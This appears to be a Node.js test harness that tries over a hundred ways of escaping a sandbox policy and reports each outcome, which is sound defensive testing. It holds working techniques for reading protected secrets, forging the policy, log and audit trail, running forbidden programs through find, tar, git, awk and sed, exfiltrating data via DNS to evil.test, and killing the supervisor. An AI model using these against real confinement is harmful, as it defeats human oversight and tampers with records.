// Attempts to get around a policy from Node. As attempts.py: ids from a pipe, one a line; each runs in a process of its
// own, for a few seconds, and is answered by "ID<tab>answer" at once.
//
//   attempts.mjs STAGE ASKED     attempts.mjs list     attempts.mjs try STAGE ID SUPERVISOR
import child from "node:child_process";
import cluster from "node:cluster";
import dgram from "node:dgram";
import dns from "node:dns";
import fs from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import net from "node:net";
import path from "node:path";
import readline from "node:readline";
import tls from "node:tls";
import vm from "node:vm";
import { fileURLToPath } from "node:url";
import { Worker } from "node:worker_threads";

const self = fileURLToPath(import.meta.url);
const SECONDS = 8;
const s = {};

function stage(file) {
  for (const line of fs.readFileSync(file, "utf8").split("\n")) {
    const at = line.indexOf("=");
    if (at > 0) s[line.slice(0, at)] = line.slice(at + 1);
  }
  s.port = Number(s.port);
}

const own = (name = "own") => `${s.work}/${s.id}.${name}`;
const mine = () => (fs.writeFileSync(own(), s.forged + "\n"), own());
const read = (file) => fs.readFileSync(file, "utf8");
const beside = () => path.dirname(s.victim) + "/new";
const said = (program, words = [], settings = {}) => {
  const done = child.spawnSync(program, words, { timeout: 6000, ...settings });
  return done.error ? String(done.error) : String(done.stdout) + String(done.stderr);
};
const loader = () => fs.readdirSync("/lib64").filter((name) => name.startsWith("ld-")).map((name) => "/lib64/" + name)[0];

// A promise of what a stream of events comes to, within a time.
const within = (start) => new Promise((done) => {
  const end = (what) => done(String(what));
  setTimeout(() => end("time"), 1500);
  start(end);
});
const connect = (where) => within((end) => {
  const one = net.connect(where, () => one.end(s.word, () => end("connected")));
  one.on("error", end);
});
const send = (type, host, more = {}) => within((end) => {
  const one = dgram.createSocket({ type, ...more });
  one.on("error", end);
  one.send(s.word, s.port, host, (error) => end(error ?? "sent"));
});
const web = (url, more = {}) => within((end) => {
  http.get(url, { headers: { "user-agent": s.word.trim() }, ...more }, end).on("error", end);
});
const exec = (program, words) => said(program, words);
const worker = (text) => within((end) => {
  const one = new Worker(text, { eval: true, workerData: { ...s } });
  one.on("message", end);
  one.on("error", end);
});

const tried = {
  "js-read-sync": () => read(s.secret),
  "js-read-promise": () => fs.promises.readFile(s.secret, "utf8"),
  "js-read-stream": () => within((end) => fs.createReadStream(s.secret).on("data", end).on("error", end)),
  "js-read-descriptor": () => {
    const data = Buffer.alloc(100);
    fs.readSync(fs.openSync(s.secret, "r"), data);
    return data.toString();
  },
  "js-read-symlink": () => (fs.symlinkSync(s.secret, own()), read(own())),
  "js-read-hard-link": () => (fs.linkSync(s.near, own()), read(own())),
  "js-read-rename": () => (fs.renameSync(s.near, own()), read(own())),
  "js-read-rename-folder": () => (fs.renameSync(path.dirname(s.near), own()), read(own() + "/token")),
  "js-read-copy": () => (fs.copyFileSync(s.secret, own()), read(own())),
  "js-read-clone": () => (fs.copyFileSync(s.secret, own(), fs.constants.COPYFILE_FICLONE), read(own())),
  "js-read-cp": () => (fs.cpSync(path.dirname(s.secret), own(), { recursive: true }), read(own() + "/token")),
  "js-read-proc-root": () => read("/proc/self/root" + s.secret),
  "js-read-proc-fd": () => read(`/proc/self/fd/${fs.openSync(s.secret, 0o10000000)}`),
  "js-read-parent-root": () => read(`/proc/${s.supervisor}/root${s.secret}`),
  "js-read-parent-memory": () => read(`/proc/${s.supervisor}/environ`),
  "js-read-url": () => read(new URL("file://" + s.secret)),
  "js-read-bytes": () => read(Buffer.from(s.secret)),
  "js-read-binding": () => {
    // Node's inner functions, below its module for files.
    const binding = process.binding("fs");
    const more = parseInt(process.versions.node) < 20 ? [undefined, {}] : [];
    const file = binding.open(s.secret, 0, 0o666, ...more);
    const data = Buffer.alloc(100);
    fs.readSync(file, data);
    return data.toString();
  },
  "js-read-worker": () => worker(`const t = require("node:worker_threads");
    t.parentPort.postMessage(require("node:fs").readFileSync(t.workerData.secret, "utf8"))`),
  "js-read-vm": () => vm.runInNewContext("f.readFileSync(p, 'utf8')", { f: fs, p: s.secret }),
  "js-read-wasi": async () => {
    // A WebAssembly program's own view of the folder: it opens "token" and reads it through the interface.
    const { WASI } = await import("node:wasi");
    const wasi = new WASI({ version: "preview1", preopens: { "/x": path.dirname(s.secret) } });
    const memory = new WebAssembly.Memory({ initial: 1 });
    wasi.initialize({ exports: { memory, _initialize() {} } });
    const bytes = Buffer.from(memory.buffer);
    bytes.write("token", 0);
    const calls = wasi.wasiImport;
    const error = calls.path_open(3, 0, 0, 5, 0, 0x2n, 0n, 0, 64);
    new Uint32Array(memory.buffer, 128, 2).set([256, 100]);
    return error ? `error ${error}` : (calls.fd_read(bytes.readUInt32LE(64), 128, 1, 96), bytes.toString("latin1", 256, 356));
  },
  "js-read-list": () => fs.readdirSync(s.names).join(" "),
  "js-read-cat": () => said("cat", [s.secret]),
  "js-read-inherited": () => said("cat", [], { stdio: [fs.openSync(s.secret, "r"), "pipe", "pipe"] }),
  "js-read-blocked": () => read(s.blocked),
  "js-read-blocked-rename": () => (fs.renameSync(path.dirname(s.blocked), own()), read(own() + "/token")),
  "js-read-source-map": () => said(process.execPath, [s.secret]),
  "js-write-file": () => fs.writeFileSync(s.victim, s.forged),
  "js-write-append": () => fs.appendFileSync(s.victim, s.forged),
  "js-write-truncate": () => fs.truncateSync(s.victim, 0),
  "js-write-unlink": () => fs.unlinkSync(s.victim),
  "js-write-rename": () => fs.renameSync(mine(), s.victim),
  "js-write-link": () => fs.linkSync(mine(), beside()),
  "js-write-symlink": () => (fs.symlinkSync(s.victim, own()), fs.writeFileSync(own(), s.forged)),
  "js-write-folder": () => fs.mkdirSync(beside()),
  "js-write-remove-folder": () => fs.rmSync(path.dirname(s.victim), { recursive: true }),
  "js-write-report": () => {
    process.report.directory = path.dirname(s.victim);
    return process.report.writeReport("new");
  },
  "js-write-profile": () => said(process.execPath, ["--cpu-prof", `--cpu-prof-dir=${path.dirname(s.victim)}`, "-e", "1"]),
  "js-write-mode": () => fs.chmodSync(s.victim, 0o444),
  "js-policy-write": () => fs.writeFileSync(s.policy, s.forged),
  "js-policy-rename": () => fs.renameSync(mine(), s.policy),
  "js-log-truncate": () => fs.truncateSync(s.log),
  "js-log-rename": () => fs.renameSync(mine(), s.log),
  "js-trail-read": () => read(s.trail),
  "js-trail-unlink": () => fs.unlinkSync(s.trail),
  "js-code-write": () => fs.writeFileSync(s.launcher, s.forged),
  "js-trail-append": () => fs.appendFileSync(s.trail, `\n${s.forged}\n`),
  "js-run-spawn": () => said(s.forbidden),
  "js-run-argv0": () => said(s.forbidden, [], { argv0: "echo" }),
  "js-run-exec": () => within((end) => child.exec(s.forbidden, (error, output) => end(output || error))),
  "js-run-exec-file": () => within((end) => child.execFile(s.forbidden, (error, output) => end(output || error))),
  "js-run-fork": () => within((end) => {
    const one = child.fork(self, [], { execPath: s.forbidden, silent: true });
    one.stdout.on("data", end);
    one.on("error", end);
  }),
  "js-run-shell": () => said("echo", [], { shell: s.forbidden }),
  "js-run-newline": () => said(`echo hi\n${s.forbidden}`, [], { shell: true }),
  "js-run-path": () => (fs.mkdirSync(own()), fs.symlinkSync(s.forbidden, own() + "/echo"), said("echo", [], { env: { PATH: own() } })),
  "js-run-copy": () => (fs.copyFileSync(s.forbidden, own()), said(own())),
  "js-run-hard-link": () => (fs.linkSync(s.near_program, own()), said(own())),
  "js-run-loader": () => said(loader(), [s.forbidden_dynamic]),
  "js-run-preload": () => said("ls", [], { env: { ...process.env, LD_PRELOAD: s.forbidden_library } }),
  "js-run-library": () => process.dlopen({ exports: {} }, s.forbidden_library),
  "js-run-perl": () => said("perl", ["-e", `print ${s.nonce}*7919`]),
  "js-run-shebang": () => (fs.writeFileSync(own(), `#!${s.forbidden}\n`, { mode: 0o755 }), said(own())),
  "js-run-worker": () => worker(`const t = require("node:worker_threads");
    t.parentPort.postMessage(String(require("node:child_process").spawnSync(t.workerData.forbidden).stdout))`),
  "js-run-binding": () => within((end) => {
    // The class below child_process.
    const { Process } = process.binding("process_wrap");
    const { Pipe, constants } = process.binding("pipe_wrap");
    const one = new Process(), pipe = new Pipe(constants.SOCKET);
    one.onexit = () => setTimeout(() => end("ended"), 200);
    const code = one.spawn({ file: s.forbidden, args: ["echo"], stdio: [{ type: "ignore" }, { type: "fd", fd: 1 }, { type: "fd", fd: 2 }] });
    if (code) end(`error ${code} ${pipe}`);
  }),
  "js-run-cluster": () => within((end) => {
    cluster.setupPrimary({ exec: self, execArgv: [], silent: true });
    const before = process.execPath;
    process.execPath = s.forbidden;
    const one = cluster.fork();
    process.execPath = before;
    one.process.stdout.on("data", end);
    one.on("error", end);
  }),
  "js-via-find": () => exec("find", ["/etc/passwd", "-exec", s.forbidden, ";"]),
  "js-via-tar": () => exec("tar", ["-cf", "/dev/null", "/etc/passwd", "--checkpoint=1", `--checkpoint-action=exec=${s.forbidden}`]),
  "js-via-git": () => exec("git", ["-c", `alias.x=!${s.forbidden}`, "x"]),
  "js-via-awk": () => exec("awk", [`BEGIN { system("${s.forbidden}") }`]),
  "js-via-sed": () => exec("sed", [`1e ${s.forbidden}`, "/etc/hostname"]),
  "js-own-node": () => said(process.execPath, ["-e", `console.log(${s.nonce}*7919)`]),
  "js-own-eval": () => vm.runInNewContext(`${s.nonce}*7919`),
  "js-tcp-blocked": () => connect({ host: s.blocked4, port: s.port }),
  "js-tcp-other": () => connect({ host: s.other4, port: s.port }),
  "js-tcp-six": () => connect({ host: s.blocked6, port: s.port }),
  "js-tcp-mapped": () => connect({ host: "::ffff:" + s.blocked4, port: s.port }),
  "js-tcp-private": () => connect({ host: s.private4, port: s.port }),
  "js-tcp-loopback": () => connect({ host: "127.0.0.1", port: s.port }),
  "js-tcp-localhost": () => connect({ host: "localhost", port: s.port }),
  "js-tcp-lookup": () => connect({ host: "allowed.test", port: s.port, lookup: (_, more, done) => done(null, more.all ? [{ address: s.blocked4, family: 4 }] : s.blocked4, 4) }),
  "js-tcp-trap": () => connect({ host: "trap.test", port: s.port }),
  "js-tcp-closed": () => connect({ host: "allowed.test", port: Number(s.closed) }),
  "js-tcp-http": () => web(`http://${s.other4}:${s.port}/${s.id}`),
  "js-tcp-http2": () => within((end) => http2.connect(`http://${s.blocked4}:${s.port}`).on("error", end).request({ ":path": "/" + s.id }).on("error", end)),
  "js-tcp-fetch": () => fetch(`http://${s.blocked4}:${s.port}/${s.id}`, { signal: AbortSignal.timeout(1500) }).then(String),
  "js-tcp-tls": () => within((end) => tls.connect({ host: s.blocked4, port: s.port, servername: s.id + ".test" }).on("error", end)),
  "js-tcp-worker": () => worker(`const t = require("node:worker_threads"), d = t.workerData;
    const one = require("node:net").connect(d.port, d.blocked4, () => one.end("reach " + d.id + ".", () => t.parentPort.postMessage("sent")));
    one.on("error", (error) => t.parentPort.postMessage(String(error)))`),
  "js-udp-blocked": () => send("udp4", s.blocked4),
  "js-udp-six": () => send("udp6", s.blocked6),
  "js-udp-mapped": () => send("udp6", "::ffff:" + s.blocked4),
  "js-udp-lookup": () => send("udp4", "allowed.test", { lookup: (_, __, done) => done(null, s.blocked4, 4) }),
  "js-udp-connected": () => within((end) => {
    const one = dgram.createSocket("udp4");
    one.on("error", end);
    one.connect(s.port, s.blocked4, () => one.send(s.word, () => end("sent")));
  }),
  "js-unix-path": () => connect({ path: s.sockets + "/stream" }),
  "js-unix-relative": () => connect({ path: path.relative(".", s.sockets + "/stream") }),
  "js-unix-abstract": () => connect({ path: "\0" + s.abstract }),
  "js-name-lookup": () => within((end) => dns.lookup(s.id + ".evil.test", end)),
  "js-name-resolve": () => within((end) => dns.resolveTxt(s.id + ".evil.test", end)),
  "js-name-server": () => within((end) => {
    const asker = new dns.Resolver({ timeout: 1000, tries: 1 });
    asker.setServers([s.dns]);
    asker.resolve4(s.id + ".evil.test", end);
  }),
  "js-kill-kill": () => within((end) => (process.kill(s.supervisor, "SIGKILL"), setTimeout(end, 400, "sent"))),
  "js-kill-stop": () => within((end) => (process.kill(s.supervisor, "SIGSTOP"), setTimeout(end, 400, "sent"))),
  "js-race-symlink": async () => {
    fs.writeFileSync(own("good"), "nothing");
    const turner = new Worker(`const t = require("node:worker_threads"), f = require("node:fs"), [a, b, c] = t.workerData;
      for (;;) for (const to of [a, b]) { f.symlinkSync(to, c + "x"); f.renameSync(c + "x", c); }`,
      { eval: true, workerData: [own("good"), s.secret, own("link")] });
    while (!fs.existsSync(own("link"))) await new Promise((done) => setTimeout(done, 20));
    let seen = "";
    for (let round = 0; round < 2500; round++) {
      try {
        seen = read(own("link"));
      } catch (error) {
        seen = String(error);
      }
      if (seen.includes("tok-")) break;
    }
    await turner.terminate();
    return seen;
  },
};

async function attempt(file, id, supervisor) {
  stage(file);
  s.id = id;
  s.supervisor = Number(supervisor);
  s.victim = `${s.outside}/${id}/kept`;
  s.forged = `FORGED ${id}`;
  s.word = `reach ${id}.`;
  process.chdir(s.work);
  process.env.HOME = s.work;
  let answer;
  try {
    answer = await tried[id]();
  } catch (error) {
    answer = error;
  }
  fs.writeSync(1, String(answer));
  process.exit(0);
}

async function main([word, ...rest]) {
  if (word === "list") return console.log(Object.keys(tried).join("\n"));
  if (word === "try") return attempt(...rest);
  for await (const id of readline.createInterface({ input: fs.createReadStream(rest[0]) })) {
    const done = child.spawnSync(process.execPath, ["--no-warnings", self, "try", word, id, String(process.ppid)],
      { timeout: SECONDS * 1000, killSignal: "SIGKILL", stdio: ["ignore", "pipe", "pipe"] });
    const answer = (String(done.stdout) + String(done.stderr)).slice(0, 4000).replace(/[\x00-\x1f\x7f-\uffff\\]/g, (sign) => "\\u" + sign.charCodeAt(0).toString(16).padStart(4, "0"));
    fs.writeSync(1, `${id}\t${answer}\n`);
  }
}

// A cluster's own child of this file does nothing.
if (cluster.isPrimary) await main(process.argv.slice(2));
